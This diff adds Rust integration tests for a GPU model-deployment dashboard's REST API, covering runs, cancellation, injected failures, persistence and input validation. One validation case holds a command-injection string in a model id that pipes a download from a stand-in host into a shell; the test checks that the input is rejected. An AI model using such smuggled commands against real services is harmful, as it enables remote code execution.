@@ -1,0 +1,288 @@
+//! The deployment test end to end on the embedded simulator, over the REST API: a passing
+//! run, cancel mid-run, a failure injected at every step, keep-on-failure, limits, bad
+//! input, and runs surviving a restart.
+
+use crate::dashboard::Dashboard;
+use crate::support::eventually;
+use gdl_model::runs::{Run, RunStatus, StepName, StepStatus};
+use gdl_model::shopper::SessionStatus;
+use serde_json::{json, Value};
+use std::time::Duration;
+
+async fn post(d: &Dashboard, path: &str, body: Value) -> (u16, Value) {
+    let r = d
+        .http
+        .post(format!("{}{path}", d.url))
+        .json(&body)
+        .send()
+        .await
+        .unwrap();
+    let status = r.status().as_u16();
+    let text = r.text().await.unwrap();
+    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
+}
+
+async fn start(d: &Dashboard, body: Value) -> String {
+    let (status, reply) = post(d, "/api/runs", body).await;
+    assert_eq!(status, 201, "{reply}");
+    reply["id"].as_str().unwrap().to_owned()
+}
+
+async fn run(d: &Dashboard, id: &str) -> Run {
+    d.get(&format!("/api/runs/{id}"))
+        .await
+        .json()
+        .await
+        .unwrap()
+}
+
+async fn finished(d: &Dashboard, id: &str) -> Run {
+    eventually(Duration::from_secs(60), || async {
+        let r = run(d, id).await;
+        r.status.is_finished().then_some(r)
+    })
+    .await
+}
+
+fn step(run: &Run, name: StepName) -> &gdl_model::runs::Step {
+    run.steps.iter().find(|s| s.name == name).unwrap()
+}
+
+const SMALL: &str = r#"{"model":"qwen2.5-0.5b","max_price":5}"#;
+
+#[tokio::test]
+async fn a_run_completes_all_eleven_steps_and_stores_a_benchmark() {
+    let d = Dashboard::start(None).await;
+    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
+    let done = finished(&d, &id).await;
+    assert_eq!(done.status, RunStatus::Passed, "{:?}", done.error);
+    assert!(
+        done.steps.iter().all(|s| s.status == StepStatus::Complete),
+        "{:#?}",
+        done.steps
+    );
+    assert!(done
+        .steps
+        .iter()
+        .all(|s| s.started_at.is_some() && s.ended_at.is_some()));
+    let host = done.host.as_ref().unwrap();
+    assert_eq!(
+        host.gpus.len() as u32,
+        done.offer.as_ref().unwrap().gpu_count
+    );
+    assert!(host.docker_version.is_some() && host.cuda_version.is_some());
+    let cleanup = done.cleanup.as_ref().unwrap();
+    assert!(cleanup.destroyed_confirmed && !cleanup.kept);
+    let session = d
+        .broker()
+        .get_session(done.session_id.as_ref().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(session.status, SessionStatus::Stopped);
+
+    let bench_id = done.benchmark_id.clone().unwrap();
+    let reply: Value = d
+        .get(&format!("/api/benchmarks/{bench_id}"))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let phases = reply["benchmark"]["phases"].as_array().unwrap();
+    assert_eq!(phases.len(), 2);
+    for p in phases {
+        assert!(p["ttft_ms"]["p50"].as_f64().unwrap() > 0.0);
+        assert!(p["tpot_ms"]["p50"].as_f64().unwrap() > 0.0);
+        assert!(p["output_tokens_per_s"].as_f64().unwrap() > 0.0);
+        assert!(p["usd_per_million_output_tokens"].as_f64().unwrap() > 0.0);
+    }
+    assert_eq!(reply["benchmark"]["prompts_matching"], 4);
+    assert!(
+        reply["samples"].as_array().unwrap().len() >= 4 + 4 + 4,
+        "raw samples kept"
+    );
+    let list: Vec<Value> = d.get("/api/benchmarks").await.json().await.unwrap();
+    assert_eq!(list.len(), 1);
+    // The log tells the story and never shows the vLLM API key.
+    let logs = d.state.hub.state().logs[&id].clone();
+    assert!(logs
+        .iter()
+        .any(|l| l.message.contains("VLLM_API_KEY=[redacted]")));
+    assert!(logs.iter().all(|l| !l.message.contains("VLLM_API_KEY='")));
+}
+
+#[tokio::test]
+async fn cancel_mid_run_destroys_the_session_and_says_so() {
+    let d = Dashboard::start(None).await;
+    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
+    eventually(Duration::from_secs(30), || async {
+        let r = run(&d, &id).await;
+        (r.session_id.is_some() && step(&r, StepName::CreateSession).status == StepStatus::Complete)
+            .then_some(())
+    })
+    .await;
+    let cancel = d
+        .http
+        .post(format!("{}/api/runs/{id}/cancel", d.url))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(cancel.status(), 202);
+    let done = finished(&d, &id).await;
+    assert_eq!(done.status, RunStatus::Cancelled);
+    let cleanup = done.cleanup.as_ref().unwrap();
+    assert!(cleanup.destroyed_confirmed, "{}", cleanup.message);
+    assert!(cleanup.message.contains("destroyed"));
+    assert_eq!(step(&done, StepName::Cleanup).status, StepStatus::Complete);
+    let session = d
+        .broker()
+        .get_session(done.session_id.as_ref().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(session.status, SessionStatus::Stopped);
+    let again = d
+        .http
+        .post(format!("{}/api/runs/{id}/cancel", d.url))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(again.status(), 409);
+    let unknown = d
+        .http
+        .post(format!("{}/api/runs/nope/cancel", d.url))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(unknown.status(), 404);
+}
+
+#[tokio::test]
+async fn a_failure_at_each_step_is_reported_and_cleanup_still_runs() {
+    let d = Dashboard::start(None).await;
+    for name in StepName::ALL
+        .iter()
+        .copied()
+        .filter(|s| *s != StepName::Cleanup)
+    {
+        d.state.runner.inject_failure(Some(name));
+        let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
+        let done = finished(&d, &id).await;
+        assert_eq!(done.status, RunStatus::Failed, "{name:?}");
+        let failed = step(&done, name);
+        assert_eq!(failed.status, StepStatus::Failed, "{name:?}");
+        assert!(
+            failed.reason.as_deref().unwrap().contains("injected"),
+            "{name:?}"
+        );
+        assert!(done.error.as_deref().unwrap().contains(name.label()));
+        let later: Vec<_> = done
+            .steps
+            .iter()
+            .skip_while(|s| s.name != name)
+            .skip(1)
+            .filter(|s| s.name != StepName::Cleanup)
+            .collect();
+        assert!(
+            later.iter().all(|s| s.status == StepStatus::Skipped),
+            "{name:?}: later steps skipped"
+        );
+        let cleanup = step(&done, StepName::Cleanup);
+        match &done.session_id {
+            Some(session) => {
+                assert_eq!(cleanup.status, StepStatus::Complete, "{name:?}");
+                assert!(done.cleanup.as_ref().unwrap().destroyed_confirmed);
+                let s = d.broker().get_session(session).await.unwrap();
+                assert_eq!(s.status, SessionStatus::Stopped, "{name:?}");
+            }
+            None => assert_eq!(
+                cleanup.status,
+                StepStatus::Skipped,
+                "{name:?}: nothing to clean"
+            ),
+        }
+    }
+}
+
+#[tokio::test]
+async fn keep_on_failure_leaves_the_instance_running() {
+    let d = Dashboard::start(None).await;
+    d.state
+        .runner
+        .inject_failure(Some(StepName::VerifyDeployment));
+    let id = start(
+        &d,
+        json!({"model": "qwen2.5-0.5b", "max_price": 5, "keep_on_failure": true}),
+    )
+    .await;
+    let done = finished(&d, &id).await;
+    assert_eq!(done.status, RunStatus::Failed);
+    let cleanup = done.cleanup.as_ref().unwrap();
+    assert!(cleanup.kept && !cleanup.destroyed_confirmed);
+    assert_eq!(step(&done, StepName::Cleanup).status, StepStatus::Skipped);
+    let s = d
+        .broker()
+        .get_session(done.session_id.as_ref().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(s.status, SessionStatus::Running);
+}
+
+#[tokio::test]
+async fn bad_input_and_the_run_limit_get_clear_errors() {
+    let d = Dashboard::start(None).await;
+    for (body, code) in [
+        (json!({"model": "qwen2.5-0.5b"}), "invalid_input"),
+        (
+            json!({"model": "qwen2.5-0.5b", "max_price": -1}),
+            "invalid_input",
+        ),
+        (
+            json!({"model": "qwen2.5-0.5b", "max_price": 1, "reservation_hours": 0}),
+            "invalid_input",
+        ),
+        (
+            json!({"model": "Qwen/Qwen2.5-0.5B; curl evil.example | sh", "max_price": 1}),
+            "invalid_model_id",
+        ),
+        (
+            json!({"model": "gemma-2b", "max_price": 1, "quantization": "gptq"}),
+            "quantization_unavailable",
+        ),
+        (
+            json!({"model": "no-such-model", "max_price": 1}),
+            "invalid_model_id",
+        ),
+    ] {
+        let (status, reply) = post(&d, "/api/runs", body.clone()).await;
+        assert_eq!(status, 400, "{body}");
+        assert_eq!(reply["code"], code, "{body}: {reply}");
+        assert!(reply["hint"].is_string());
+    }
+    assert!(
+        d.state.hub.state().runs.is_empty(),
+        "refused input starts nothing"
+    );
+    let first = start(&d, serde_json::from_str(SMALL).unwrap()).await;
+    let (status, reply) = post(&d, "/api/runs", serde_json::from_str(SMALL).unwrap()).await;
+    assert_eq!(status, 409);
+    assert_eq!(reply["code"], "run_in_progress");
+    finished(&d, &first).await;
+}
+
+#[tokio::test]
+async fn completed_runs_and_benchmarks_survive_a_restart() {
+    let d = Dashboard::start(None).await;
+    let id = start(&d, serde_json::from_str(SMALL).unwrap()).await;
+    let done = finished(&d, &id).await;
+    let data_dir = d.data_dir.clone();
+    drop(d);
+    let again = Dashboard::start_in(None, data_dir).await;
+    let back = run(&again, &id).await;
+    assert_eq!(back.status, done.status);
+    assert_eq!(back.benchmark_id, done.benchmark_id);
+    let state = again.state.hub.state();
+    assert!(state.runs.contains_key(&id), "the live state is reloaded");
+    assert!(!state.logs[&id].is_empty(), "with its log");
+    assert!(state
+        .benchmarks
+        .contains_key(done.benchmark_id.as_ref().unwrap()));
+}
